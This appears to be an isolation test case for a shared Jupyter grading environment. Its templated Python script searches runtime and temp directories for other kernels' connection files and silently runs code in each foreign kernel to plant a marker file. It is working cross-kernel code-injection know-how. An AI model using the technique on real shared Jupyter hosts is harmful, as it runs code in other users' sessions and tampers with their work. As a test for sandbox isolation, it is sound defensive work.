# ---
# class: forged outputs and messages
# tries: looks for the connection files of other kernels and runs code in them
# success: something planted by another student's kernel
# ---

# %% solution="total"
import glob

from ipykernel.connect import get_connection_file
from jupyter_client import BlockingKernelClient

patterns = ("@HOME@/.local/share/jupyter/runtime/kernel-*.json", "/tmp/**/kernel-*.json", "/run/**/*kernel*.json")
for pattern in patterns:
    for path in glob.glob(pattern, recursive=True):
        if path != get_connection_file():
            client = BlockingKernelClient(connection_file=path)
            client.load_connection_file()
            client.start_channels()
            client.execute("open('@MARKS@/planted-by-@NAME@', 'w').write('!')", silent=True)
